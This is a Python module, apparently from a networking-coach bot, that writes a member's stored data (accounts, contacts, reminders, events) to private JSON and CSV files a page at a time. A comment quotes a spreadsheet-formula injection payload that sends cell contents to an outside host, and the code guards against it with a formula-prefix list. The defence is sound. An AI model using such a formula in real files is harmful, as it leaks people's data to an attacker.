"""A member's own data, out: JSON and CSV of everything the coach stores about them.

Written a page of contacts at a time (PAGE, with their events and reminders) into two private temporary
files, so a member with 10,000 contacts costs the memory of one page, not of the whole export (it was
139 MB). The JSON keeps one contact to a line. The export reads in a read-only unit of its own (bot.coach):
a big member's export never holds up anyone's writes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

from sqlalchemy import and_, or_, select
from sqlalchemy.orm import Session, selectinload

from bot import commands
from bot.handlers.context import Context
from bot.linking import account_words
from bot.models import Conference, Contact, Member, Nudge, NudgeState
from bot.replies import Attachment, Reply
from bot.store.repository import accounts_of
from bot.timefmt import working_hours

CSV_FIELDS = ("name", "stage", "where_met", "met_at", "notes", "interests", "offer", "purpose", "tags",
              "platform_user_id", "next_nudge", "next_nudge_at", "meetings")
# A spreadsheet reads a cell starting with one of these as a formula (`=IMAGE("//host/?"&E2)` as a Discord
# display name): OWASP's CSV injection advice is to start such a cell with a single quote, which makes it
# text. Also when spaces come first (a spreadsheet may trim them), and for the full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


PAGE = 500  # contacts read, written and let go at a time
JSON_NAME, CSV_NAME = "coach-export.json", "coach-contacts.csv"


def export(cmd: commands.Export, ctx: Context) -> Reply:
    count, files = write_export(ctx.session, ctx.member, ctx.now.isoformat())
    accounts = accounts_of(ctx.session, ctx.member)
    every = (f" It covers all your linked accounts: {', '.join(account_words(a) for a in accounts)}."
             if len(accounts) > 1 else "")
    return Reply(
        f"Here is everything I store about you: {count} contact{'s' if count != 1 else ''}, as JSON and "
        f"CSV.{every}",
        attachments=files,
    )


def write_export(session: Session, member: Member, exported_at: str) -> tuple[int, tuple[Attachment, ...]]:
    """The member's export as two files in a new private folder (0700, files 0600); how many contacts."""
    folder = Path(tempfile.mkdtemp(prefix="coach-export-"))
    json_path, csv_path = folder / JSON_NAME, folder / CSV_NAME
    files = (Attachment(JSON_NAME, json_path, "application/json"), Attachment(CSV_NAME, csv_path, "text/csv"))
    count = 0
    try:
        with _private(json_path) as as_json, _private(csv_path) as as_csv:
            accounts = [{"platform": a.platform, "workspace_id": a.workspace_id, "user_id": a.user_id,
                         "display_name": a.display_name} for a in accounts_of(session, member)]  # linked, own first
            head = json.dumps({"member": _member_dict(member), "accounts": accounts, "exported_at": exported_at},
                              ensure_ascii=False)
            as_json.write(head[:-1] + ', "contacts": [')
            writer = csv.DictWriter(as_csv, fieldnames=CSV_FIELDS, extrasaction="ignore")
            writer.writeheader()
            for contact, nudge in _pages(session, member):
                row = _contact_dict(contact, nudge)
                as_json.write(("\n" if count == 0 else ",\n") + json.dumps(row, ensure_ascii=False))
                meetings = "; ".join(" ".join(filter(None, (m["at"], m["where"]))) for m in row["meetings"])
                cells = {**row, "interests": "; ".join(row["interests"]), "tags": " ".join(row["tags"]),
                         "meetings": meetings}
                writer.writerow({field: safe_cell(cells[field]) for field in CSV_FIELDS})
                count += 1
            events = [{"name": e.name, "from": e.starts_at.isoformat(), "until": e.ends_at.isoformat(),
                       "ended_at": e.ended_at.isoformat() if e.ended_at else None}
                      for e in session.scalars(select(Conference).where(Conference.member_id == member.id)
                                               .order_by(Conference.id))]  # the member's conference days
            tail = json.dumps({"events": events}, indent=2, ensure_ascii=False)  # small: indented as it was
            as_json.write("\n],\n" + tail.removeprefix("{\n"))
    except BaseException:
        for file in files:
            file.discard()
        raise
    return count, files


def _private(path: Path) -> IO[str]:
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    return io.open(descriptor, "w", encoding="utf-8", newline="")  # noqa: UP020 (a descriptor, not a path)


def _pages(session: Session, member: Member) -> Iterator[tuple[Contact, Nudge | None]]:
    """Every contact of the member, most recently met first, a page at a time (keyset: met_at, id), each
    with its pending reminder; a page is let go of before the next is read."""
    after: tuple[Any, int] | None = None
    while True:
        query = (select(Contact).where(Contact.member_id == member.id).options(selectinload(Contact.events))
                 .order_by(Contact.met_at.desc(), Contact.id.desc()).limit(PAGE))
        if after is not None:
            query = query.where(or_(Contact.met_at < after[0], and_(Contact.met_at == after[0], Contact.id < after[1])))
        page = list(session.scalars(query))
        if not page:
            return
        ids = [contact.id for contact in page]
        pending = {n.contact_id: n for n in session.scalars(select(Nudge).where(
            Nudge.contact_id.in_(ids), Nudge.state == NudgeState.PENDING))}
        for contact in page:
            yield contact, pending.get(contact.id)
        after = (page[-1].met_at, page[-1].id)
        for contact in page:
            session.expunge(contact)
        for nudge in pending.values():
            session.expunge(nudge)
        if len(page) < PAGE:
            return


def safe_cell(value: Any) -> Any:
    """A CSV cell no spreadsheet runs as a formula: text that starts like one gets a leading quote."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _member_dict(member: Member) -> dict[str, Any]:
    return {
        "platform": member.platform,
        "workspace_id": member.workspace_id,
        "user_id": member.user_id,
        "timezone": member.timezone,
        "working_hours": working_hours(member, "-"),
        "working_days": member.work_days,
        "checkin_days": member.checkin_days,
        "monday_digest": "on" if member.digest_on else "off",
        "model_drafts": "on" if member.model_drafts else "off",
        "paused": member.paused,
    }


def _contact_dict(contact: Contact, nudge: Any) -> dict[str, Any]:
    return {
        "name": contact.name,
        "stage": contact.stage,
        "where_met": contact.where_met,
        "met_at": contact.met_at.isoformat(),
        "notes": contact.notes,
        "interests": list(contact.interests or []),
        "offer": contact.offer,
        "purpose": contact.purpose,  # the member's answer to "What's this message for?"
        "tags": list(contact.tags or []),
        "platform_user_id": contact.platform_user_id,
        "next_nudge": nudge.kind if nudge else None,
        "next_nudge_at": nudge.due_at.isoformat() if nudge else None,
        # every meeting, oldest first (where_met and met_at are the latest one's)
        "meetings": [{"at": e.at.isoformat(), "where": e.detail} for e in contact.events if e.kind == "met"],
        "events": [
            {"kind": e.kind, "at": e.at.isoformat(), "detail": e.detail,
             "until": e.until.isoformat() if e.until else None}
            for e in contact.events
        ],
    }
